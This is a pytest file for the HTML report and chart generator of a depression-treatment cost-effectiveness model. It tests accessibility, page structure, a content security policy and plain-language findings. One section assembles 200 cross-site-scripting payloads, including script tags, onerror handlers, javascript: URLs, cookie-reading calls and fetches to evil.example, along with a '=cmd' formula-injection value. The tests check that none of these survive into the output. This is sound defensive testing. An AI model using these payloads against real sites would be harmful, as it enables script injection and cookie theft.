from __future__ import annotations

import json
import os
import re
import shutil
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from tests.report.synthetic import write_result

from popmodel.errors import InputError
from popmodel.report import style
from popmodel.report.charts import CHARTS
from popmodel.report.cheers import OPEN, checklist
from popmodel.report.html import _is_fresh, write_report
from popmodel.report.inventory import inventory
from popmodel.report.plain_words import answer
from popmodel.report.redraw import draw_all
from popmodel.report.summary import headline
from popmodel.report.tables import load_result
from popmodel.report.words import clean

BESIDE = re.compile(r"([a-z_]+/)?[a-z_]+\.(csv|json|yaml)")
"""A file of the same result."""
VOID = {"meta", "img", "br", "hr", "link"}


class Page(HTMLParser):
    """All tags with their attributes, and whether they close in order."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []
        self.open: list[str] = []
        self.wrong: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(tag)

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def all(self, *names: str) -> list[dict[str, str]]:
        return [attributes for tag, attributes in self.tags if tag in names]


def read(path: Path) -> Page:
    return Page(path.read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def page(drawn: Path) -> Page:
    return read(drawn / "report.html")


def test_tags_close_in_the_order_they_open(page: Page):
    assert page.wrong == [] and page.open == []


def test_the_page_has_a_language_a_title_and_landmarks(page: Page):
    assert page.all("html") == [{"lang": "en"}]
    for landmark in ("header", "nav", "main", "footer", "title"):
        assert len(page.all(landmark)) == 1


def test_headings_go_down_one_level_at_a_time(page: Page):
    levels = [int(tag[1]) for tag, _ in page.tags if re.fullmatch(r"h[1-6]", tag)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(b - a <= 1 for a, b in pairwise(levels))


def test_every_chart_is_a_figure_with_its_finding_as_alternative_text(page: Page, drawn: Path):
    result = load_result(drawn)
    alternatives = [image["alt"] for image in page.all("img")]
    findings = [
        chart.finding(chart.table(result), result.about_for(chart.needs))
        for chart in CHARTS.values()
    ]
    assert alternatives == findings
    assert len(page.all("figure")) == len(page.all("figcaption")) == len(CHARTS)


def test_nothing_is_loaded_from_elsewhere_and_nothing_runs(page: Page):
    assert not page.all("script", "iframe", "object", "embed", "link", "form", "base")
    for tag, attributes in page.tags:
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("src", "href"):
                assert value.startswith(("#", "data:image/svg+xml;base64,")) or BESIDE.fullmatch(
                    value
                )
    (policy,) = [m["content"] for m in page.all("meta") if "http-equiv" in m]
    assert "default-src 'none'" in policy and "script-src" not in policy


def test_tables_say_what_each_cell_belongs_to(page: Page):
    assert page.all("th")
    assert all(th.get("scope") in {"row", "col", "colgroup"} for th in page.all("th"))
    assert len(page.all("caption")) == len(page.all("table"))


def test_links_within_the_page_arrive(page: Page):
    ids = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
    assert len(ids) == len(set(ids))
    links = {a["href"] for a in page.all("a")}
    assert {one[1:] for one in links if one.startswith("#")} <= set(ids)
    labelled = {a["aria-labelledby"] for _, a in page.tags if "aria-labelledby" in a}
    assert labelled <= set(ids)


def test_every_chart_and_table_leads_to_its_numbers(page: Page, drawn: Path):
    links = {a["href"] for a in page.all("a") if not a["href"].startswith("#")}
    tables = {link for link in links if link.endswith(".csv")}
    assert {f"charts/{name}.csv" for name in CHARTS} <= tables
    assert {"strategies.csv", "versus_comparator.csv", "incremental.csv", "psa/plane.csv"} <= tables
    assert all((drawn / link).is_file() for link in tables)


def test_the_page_is_small_enough_to_send(drawn: Path):
    assert (drawn / "report.html").stat().st_size < 5_000_000


def test_treatments_without_human_data_are_labelled(page: Page):
    words = " ".join(page.words)
    assert words.count("assumption: no human efficacy data") >= 4


def test_a_conclusion_that_hinges_on_the_premise_is_labelled(page: Page, drawn: Path):
    words = " ".join(" ".join(page.words).split())
    assert "only under premise" in words
    assert "is not the best under the evidence at $20,000 per QALY" in words


def test_a_conclusion_that_does_not_hinge_on_the_premise_is_not_labelled(tmp_path: Path):
    directory = write_result(tmp_path / "r", changes={"willingness_to_pay": [100_000]})
    words = " ".join(read(write_report(directory, charts=False)).words)
    assert "only under premise" not in words
    assert "SAINT first when severe has the highest expected net benefit under every" in words


def test_structures_that_disagree_are_told_in_the_headline(tmp_path: Path):
    directory = write_result(tmp_path / "r", changes={"willingness_to_pay": [20_000]})
    assert headline(load_result(directory)) == (
        "At $20,000 per QALY, the highest expected net benefit goes to Stepped behavioural care "
        "under evidence and Ketamine after two failures under mixture and premise."
    )


def test_a_result_without_a_price_tells_of_remission(tmp_path: Path):
    directory = write_result(tmp_path / "r", ["evidence"], changes={"willingness_to_pay": []})
    assert "most patients in remission" in headline(load_result(directory))
    assert read(write_report(directory, charts=False)).wrong == []


def test_a_report_draws_the_charts_that_are_missing_and_only_those(result: Path):
    page = read(write_report(result, charts=False))
    assert not page.all("figure")
    page = read(write_report(result))
    drawn = {path.stem for path in (result / "charts").glob("*.svg")}
    assert len(page.all("figure")) == len(drawn) >= 8
    before = (result / "charts" / "flow.png").stat().st_mtime_ns
    write_report(result)
    assert (result / "charts" / "flow.png").stat().st_mtime_ns == before


def test_a_chart_is_drawn_again_when_its_table_is_newer(result: Path):
    draw_all(result, ["flow"])
    assert _is_fresh(load_result(result), "flow")
    later = (result / "charts" / "flow.svg").stat().st_mtime + 10
    os.utime(result / "flow.csv", (later, later))
    assert not _is_fresh(load_result(result), "flow")


def test_the_same_result_gives_the_same_page(result: Path):
    first = write_report(result, charts=False).read_bytes()
    assert write_report(result, charts=False).read_bytes() == first


BREAKS = (
    "<script>{0}</script>", "<ScRiPt src={1}>", '"><img src=x onerror={0}>', "'><svg/onload={0}>",
    "</title></style></figure><script>{0}</script>", "--><script>{0}</script><!--",
    "]]><script>{0}</script>", "<iframe srcdoc='<script>{0}</script>'>", "<a href={1}>x</a>",
    "<body onload={0}>", "<math><mtext><script>{0}</script>", "<link rel=stylesheet href={1}>",
    "<base href={1}>", "<meta http-equiv=refresh content='0;url={1}'>", "<object data={1}>",
    "<embed src={1}>", "<details open ontoggle={0}>", "<style>@import '{1}';</style>",
    "&lt;script&gt;{0}&lt;/script&gt;", "{{{{ {0} }}}}",
)  # fmt: skip
CALLS = (
    ("alert(1)", "http://evil.example/x"), ("alert`1`", "//evil.example/x"),
    ("eval(name)", "javascript:alert(1)"), ("top[8680439..toString(30)](1)", "data:text/html,x"),
    ("fetch('//evil.example')", "https://evil.example/?q="), ("1", "\\\\evil.example\\x"),
    ("confirm(document.cookie)", "vbscript:x"), ("import('//evil.example')", "file:///x"),
    ("{% raw %}7*7", "JaVaScRiPt:alert(1)"), ("\u2028alert(1)", "ftp://evil.example"),
)  # fmt: skip
PAYLOADS = [text.format(*call) for text in BREAKS for call in CALLS]
PLACES = 22
"""Names that somebody else gives, on one page."""


def hostile(directory: Path, payloads: list[str], with_psa: bool = False) -> Path:
    """Return a result in which every name is one of the payloads."""
    left = iter(payloads)
    directory = write_result(directory, ["evidence"], with_psa=with_psa)
    manifest = json.loads((directory / "manifest.json").read_text(encoding="utf-8"))
    manifest["strategies"] = {s: next(left, "x") for s in manifest["strategies"]}  # 6
    for card in list(manifest["treatments"].values())[:6]:
        card |= {"label": next(left, "x"), "family": "x", "grade": "A"}
    manifest["biotypes"] = {b: next(left, "x") for b in manifest["biotypes"]}  # 4
    for name in ("title", "scenario", "currency", "price_year"):
        manifest[name] = next(left, "x")
    manifest["evidence"] = {next(left, "x"): 3}
    manifest["made"] = {"versions": {"popmodel": next(left, "x")}}
    (directory / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    if not with_psa:
        return directory
    evppi = directory / "psa" / "evppi.csv"
    table = pd.read_csv(evppi)
    table["parameter"] = [payloads[k % len(payloads)] + str(k) for k in range(len(table))]
    table.to_csv(evppi, index=False)
    return directory


def test_there_are_two_hundred_payloads_and_a_place_for_each():
    assert len(set(PAYLOADS)) == 200


@pytest.mark.parametrize("first", range(0, 200, PLACES))
def test_no_text_of_a_result_becomes_part_of_the_page(first: int, tmp_path: Path):
    payloads = PAYLOADS[first : first + PLACES]
    page = read(write_report(hostile(tmp_path / "r", payloads), charts=False))
    assert page.wrong == [] and page.open == []
    assert not page.all("script", "iframe", "object", "embed", "link", "base", "svg", "math",
                        "style")[1:]  # fmt: skip
    assert len([tag for tag, _ in page.tags if tag == "style"]) == 1
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on")], tag
        for name in {"href", "src", "data", "srcdoc", "action"} & set(attributes):
            value = attributes[name]
            assert value.startswith(("#", "data:image/svg+xml;base64,")) or BESIDE.fullmatch(value)
    words = " ".join(page.words)
    shown = [*payloads[:12], *payloads[16:]]  # the others name biotypes, which only charts show
    assert all(clean(payload)[:6] in words for payload in shown)


def test_no_text_of_a_result_becomes_part_of_a_chart(tmp_path: Path):
    directory = hostile(tmp_path / "r", PAYLOADS[:PLACES], with_psa=True)
    names = ["cost_waterfall", "value_of_numbers", "policy_map", "thresholds"]
    draw_all(directory, names)
    page = read(write_report(directory, charts=False))
    assert len(page.all("figure")) == len(names)
    for path in (directory / "charts").glob("*.svg"):
        picture = Page(path.read_text(encoding="utf-8"))
        assert not picture.all("script", "iframe", "foreignobject", "image", "a"), path.name
        for tag, attributes in picture.tags:
            assert not [name for name in attributes if name.startswith("on")], (path.name, tag)
            for name in {"href", "xlink:href", "src"} & set(attributes):
                assert attributes[name].startswith("#"), path.name


# ------------------------------------------------------------------ what it says


def test_the_page_says_how_it_is_known_in_plain_words(drawn: Path):
    told = answer(load_result(drawn))
    assert told[0].startswith(
        "SAINT first when severe adds 29.9 weeks in remission per patient (95"
    )
    assert "QALYs at $26," in told[0] or "QALYs at $" in told[0]
    assert any("clearly worth more than Usual care" in sentence for sentence in told)
    assert told[-1].startswith("With all uncertain numbers drawn 120 times: at $50,000 per QALY")


def test_what_hinges_on_the_premise_is_said_in_plain_words(tmp_path: Path):
    directory = write_result(tmp_path / "r", changes={"willingness_to_pay": [20_000]})
    told = " ".join(answer(load_result(directory)))
    assert "is worth most holds under mixture and premise, not under evidence." in told


def test_a_page_of_luck_says_that_nothing_can_be_told(tmp_path: Path):
    directory = write_result(tmp_path / "r", ["evidence"])
    path = directory / "versus_comparator.csv"
    table = pd.read_csv(path)
    for name in [c for c in table if c.startswith(("nmb_", "inc_"))]:
        if name.endswith("_low"):
            table[name] = -1e6
        elif name.endswith("_high"):
            table[name] = 1e6
    table.to_csv(path, index=False)
    told = answer(load_result(directory))
    assert told == [
        "Nothing can be told from luck: with 20,000 patients the net benefit of no strategy "
        "differs clearly from Usual care at $50,000 per QALY."
    ]


def test_every_item_of_the_checklist_is_filled_or_left_to_the_author(drawn: Path):
    items = checklist(load_result(drawn), ["a", "b"])
    assert [int(name.split(".")[0]) for name, _, _ in items] == list(range(1, 29))
    left = {int(name.split(".")[0]) for name, _, is_open in items if is_open}
    assert {2, 3, 4, 21, 25, 26, 27, 28} <= left
    assert {1, 5, 7, 8, 9, 10, 15, 17, 20, 23, 24} & left == set()
    assert all(said == OPEN for name, said, is_open in items if is_open)


def test_each_cost_is_in_the_inventory_once_and_work_lost_in_one_perspective(drawn: Path):
    rows = {row.name: row for row in inventory(load_result(drawn))}
    assert len(rows) == len(inventory(load_result(drawn)))
    assert (rows["Productivity"].health_care, rows["Productivity"].societal) == ("no", "yes")
    assert (rows["Treatment"].health_care, rows["Treatment"].societal) == ("yes", "yes")


def test_a_saved_inventory_goes_before_the_default_one(result: Path):
    (result / "impact_inventory.csv").write_text(
        "sector,impact,health_care,societal,note\nhealth,qaly,True,True,=cmd\n", encoding="utf-8"
    )
    (row,) = inventory(load_result(result))
    assert (row.sector, row.name, row.health_care, row.note) == ("Health", "Qaly", "yes", "=cmd")


def test_a_folder_of_draws_alone_has_a_report_too(drawn: Path, tmp_path: Path):
    alone = tmp_path / "five" / "psa"
    shutil.copytree(drawn / "psa", alone)
    shutil.copy(drawn / "manifest.json", alone / "manifest.json")
    page = read(write_report(alone, charts=False))
    assert page.wrong == []
    words = " ".join(" ".join(page.words).split())
    assert "Difference from Usual care: mean and 95 % of 120 draws" in words


def test_draws_belong_to_the_run_above_them(drawn: Path):
    assert load_result(drawn / "psa").about.title == load_result(drawn).about.title


# ------------------------------------------------------------------ for every reader


def colours_of(css: str) -> dict[str, str]:
    return dict(re.findall(r"--([a-z-]+): (#[0-9a-f]{6})", css))


def test_words_stand_out_from_what_is_behind_them(page: Page):
    css = "".join(word for word in page.words if ":root" in word)
    colour = colours_of(css)
    pairs = [("ink", "#ffffff"), ("soft", "#ffffff"), ("soft", colour["tint"]),
             ("accent", "#ffffff"), ("flag", colour["flag-back"]), ("ink", colour["tint"]),
             ("accent", colour["tint"])]  # fmt: skip
    for name, behind in pairs:
        light, dark = sorted((style._luminance(colour[name]), style._luminance(behind)))[::-1]
        assert (light + 0.05) / (dark + 0.05) >= 4.5, (name, behind)


def test_words_of_charts_stand_out_from_paper():
    for colour in (style.INK, style.SOFT):
        assert 1.05 / (style._luminance(colour) + 0.05) >= 4.5


def test_what_scrolls_can_be_reached_by_keyboard_and_has_a_name(page: Page):
    scrolled = [a for tag, a in page.tags if a.get("class") == "scroll"]
    assert len(scrolled) == len(page.all("table")) + len(page.all("img"))
    assert all(a["tabindex"] == "0" and a["role"] == "region" and a["aria-label"] for a in scrolled)


def test_the_first_link_skips_to_the_results(page: Page):
    assert page.all("a")[0]["href"] == "#main"
    assert page.all("main") == [{"id": "main"}]


def test_every_picture_has_words_and_every_link_a_name(page: Page, drawn: Path):
    assert all(len(image["alt"]) > 40 for image in page.all("img"))
    text = (drawn / "report.html").read_text(encoding="utf-8")
    assert not re.search(r"<a [^>]*>\s*</a>", text)


def test_a_folder_that_is_no_result_is_refused(tmp_path: Path):
    with pytest.raises(InputError, match=r"manifest\.json"):
        write_report(tmp_path)
